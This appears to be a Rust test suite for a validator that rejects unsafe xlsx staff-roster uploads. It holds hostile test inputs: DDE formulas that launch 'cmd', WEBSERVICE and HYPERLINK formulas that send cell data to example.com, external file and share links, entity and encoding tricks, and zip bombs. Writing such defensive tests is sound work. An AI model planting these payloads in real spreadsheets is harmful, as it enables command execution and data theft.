use std::io::{Cursor, Read, Write};

use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

use super::*;

/// The hotel's roster with parts put in or replaced.
fn with_parts(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let roster = hotel("MAT-STAFF.xlsx");
    let mut source = ZipArchive::new(Cursor::new(roster)).unwrap();
    let mut target = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default();
    for index in 0..source.len() {
        let mut part = source.by_index(index).unwrap();
        let name = part.name().unwrap().into_owned();
        if parts.iter().all(|(other, _)| *other != name) {
            let mut content = Vec::new();
            part.read_to_end(&mut content).unwrap();
            target.start_file(name, options).unwrap();
            target.write_all(&content).unwrap();
        }
    }
    for (name, content) in parts {
        target.start_file(*name, options).unwrap();
        target.write_all(content).unwrap();
    }
    target.finish().unwrap().into_inner()
}

fn sheet(rows: &str) -> Vec<u8> {
    format!(
        r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"#
    )
    .into_bytes()
}

#[test]
fn a_workbook_with_macros_is_refused() {
    assert_rejected(
        Xlsx,
        &paper("broken/macro.xlsx"),
        &[RejectReason::WorkbookMacros],
    );
}

#[test]
fn everything_no_roster_needs_is_named_at_once() {
    let bytes = with_parts(&[
        ("xl/VbaProject.bin", b"macros"),
        ("xl\\externalLinks\\externalLink1.xml", b"<externalLink/>"),
        ("xl/embeddings/oleObject1.bin", b"object"),
    ]);
    assert_rejected(
        Xlsx,
        &bytes,
        &[
            RejectReason::WorkbookMacros,
            RejectReason::WorkbookExternalLinks,
            RejectReason::WorkbookEmbeddedObjects,
        ],
    );
}

#[test]
fn a_workbook_cut_off_is_damaged() {
    let whole = hotel("MAT-STAFF.xlsx");
    for percent in (10..100).step_by(10) {
        let cut = &whole[..whole.len() * percent / 100];
        assert_rejected(Xlsx, cut, &[RejectReason::WorkbookDamaged]);
    }
}

#[test]
fn a_part_that_breaks_its_checksum_is_damaged() {
    let mut bytes = hotel("MAT-STAFF.xlsx");
    // Well inside the compressed data of the first part.
    bytes[100] ^= 0xFF;
    assert_rejected(Xlsx, &bytes, &[RejectReason::WorkbookDamaged]);
}

#[test]
fn a_protected_workbook_asks_for_one_without_a_password() {
    let mut bytes = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    bytes.extend([0; 4096]);
    assert_rejected(Xlsx, &bytes, &[RejectReason::WorkbookProtected]);
}

#[test]
fn any_other_archive_is_no_workbook() {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    archive
        .start_file("word/document.xml", SimpleFileOptions::default())
        .unwrap();
    archive.write_all(b"<document/>").unwrap();
    let bytes = archive.finish().unwrap().into_inner();
    assert_rejected(Xlsx, &bytes, &[RejectReason::NotWhatItSays]);
}

#[test]
fn a_workbook_without_a_word_in_it_is_refused() {
    let bytes = with_parts(&[("xl/worksheets/sheet1.xml", &sheet(""))]);
    assert_rejected(Xlsx, &bytes, &[RejectReason::WorkbookEmpty]);
}

#[test]
fn two_cells_at_opposite_corners_are_two_cells() {
    let corners = sheet(
        r#"<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#,
    );
    let bytes = with_parts(&[("xl/worksheets/sheet1.xml", &corners)]);
    assert_clean(
        Xlsx,
        &bytes,
        Facts::Workbook {
            sheets: 1,
            cells: 2,
        },
    );
}

#[test]
fn a_small_file_may_not_unfold_into_an_enormous_workbook() {
    let blank = vec![b' '; 5 * 1024 * 1024];
    let bomb = with_parts(&[("xl/media/blank.txt", &blank)]);
    assert!(bomb.len() < 100_000);
    assert_rejected(Xlsx, &bomb, &[RejectReason::WorkbookTooLarge]);
}

#[test]
fn a_workbook_may_not_hold_millions_of_styles() {
    let styles = "<xf/>".repeat(4_000_001);
    // Incompressible padding, so that it is not the ratio that gives it away.
    let padding: Vec<u8> = (0..120_000_u32)
        .map(|at| (at.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    let bytes = with_parts(&[
        ("xl/styles.xml", styles.as_bytes()),
        ("xl/media/image1.png", &padding),
    ]);
    assert_rejected(Xlsx, &bytes, &[RejectReason::WorkbookTooLarge]);
}

#[test]
fn many_sheets_over_one_part_are_refused() {
    let sheets = r#"<sheet name="名册" sheetId="1" r:id="rId1"/>"#.repeat(101);
    let workbook = format!(
        r#"<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>{sheets}</sheets></workbook>"#
    );
    let bytes = with_parts(&[("xl/workbook.xml", workbook.as_bytes())]);
    assert_rejected(Xlsx, &bytes, &[RejectReason::WorkbookTooLarge]);
}

#[test]
fn more_parts_than_any_roster_has_are_refused() {
    let names: Vec<String> = (0..2_001)
        .map(|part| format!("xl/media/{part}.txt"))
        .collect();
    let parts: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b""[..])).collect();
    assert_rejected(Xlsx, &with_parts(&parts), &[RejectReason::WorkbookTooLarge]);
}

/// A sheet with a word in it and one formula, as a program writes it.
fn with_formula(formula: &str) -> Vec<u8> {
    let cells =
        format!(r#"<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f>{formula}</f><v>1</v></c></row>"#);
    with_parts(&[("xl/worksheets/sheet1.xml", &sheet(&cells))])
}

const ONE_SHEET: Facts = Facts::Workbook {
    sheets: 1,
    cells: 2,
};

#[test]
fn formulas_that_reach_outside_are_refused_however_they_are_written() {
    for formula in [
        r#"WEBSERVICE("https://example.com/?"&amp;A1)"#,
        "_xlfn.WEBSERVICE(A1)",
        "cmd|&apos;/c calc&apos;!A0",
        "cmd&#124;'/c calc'!A0",
        "<![CDATA[cmd|'/c calc'!A0]]>",
        "[1]Sheet1!A1",
        r#"HYPERLINK("https://example.com/?"&amp;A1)"#,
        r#"IMAGE("https://example.com/a.png")"#,
    ] {
        let refused = [RejectReason::WorkbookExternalLinks];
        assert_rejected(Xlsx, &with_formula(formula), &refused);
    }
}

#[test]
fn formulas_within_the_workbook_are_kept() {
    for formula in [
        "SUM(A1:A9)",
        "Staff[[#This Row],[Age]]*2",
        r##"HYPERLINK("#Sheet2!A1","see")"##,
    ] {
        assert_clean(Xlsx, &with_formula(formula), ONE_SHEET);
    }
}

#[test]
fn a_name_or_a_condition_may_not_reach_outside_either() {
    let name =
        r#"<x:names xmlns:x="urn:x"><x:definedName>cmd|'/c calc'!A0</x:definedName></x:names>"#;
    let condition = "<cfRule><formula>_xlfn.WEBSERVICE(A1)</formula></cfRule>";
    for part in [name, condition] {
        let bytes = with_parts(&[("xl/other.xml", part.as_bytes())]);
        assert_rejected(Xlsx, &bytes, &[RejectReason::WorkbookExternalLinks]);
    }
}

fn with_relationship(kind: &str, target: &str) -> Vec<u8> {
    let office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let part = format!(
        r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="{office}/{kind}" Target="{target}" TargetMode="External"/></Relationships>"#
    );
    with_parts(&[("xl/drawings/_rels/drawing1.xml.rels", part.as_bytes())])
}

#[test]
fn a_link_to_a_page_is_kept_and_what_is_fetched_from_outside_is_not() {
    for target in ["https://example.com/", "mailto:a@example.com"] {
        let verdict = examined(Xlsx, &with_relationship("hyperlink", target));
        assert!(matches!(verdict, Verdict::Clean(..)), "{verdict:?}");
    }
    for (kind, target) in [
        ("image", "https://example.com/a.png"),
        ("hyperlink", r"\\server\share"),
        ("hyperlink", "file:///c:/a"),
    ] {
        let refused = [RejectReason::WorkbookExternalLinks];
        assert_rejected(Xlsx, &with_relationship(kind, target), &refused);
    }
}

#[test]
fn what_programs_read_differently_is_damaged() {
    let utf_16: Vec<u8> = "<f>cmd|'/c calc'!A0</f>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let declared = br#"<?xml version="1.0" encoding="UTF-7"?><a/>"#;
    let entity = b"<!DOCTYPE a [<!ENTITY b \"cmd|x!A0\">]><f>&b;</f>";
    for part in [&utf_16[..], declared, entity] {
        let bytes = with_parts(&[("xl/other.xml", part)]);
        assert_rejected(Xlsx, &bytes, &[RejectReason::WorkbookDamaged]);
    }
}

#[test]
fn a_million_rows_of_empty_cells_are_too_large_and_a_million_without_cells_hold_nothing() {
    for (row, reason) in [
        ("<row><c/></row>", RejectReason::WorkbookTooLarge),
        ("<row/>", RejectReason::WorkbookEmpty),
    ] {
        assert_rejected(Xlsx, &with_a_million_rows(row), &[reason]);
    }
}

/// The hotel's roster with `row` a million times and once more in the place of its people.
fn with_a_million_rows(row: &str) -> Vec<u8> {
    let rows = row.repeat(1_000_001);
    // Incompressible padding, so that it is not the ratio that gives it away.
    let padding: Vec<u8> = (0..400_000_u32)
        .map(|at| (at.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    with_parts(&[
        ("xl/worksheets/sheet1.xml", &sheet(&rows)),
        ("xl/media/image1.png", &padding),
    ])
}
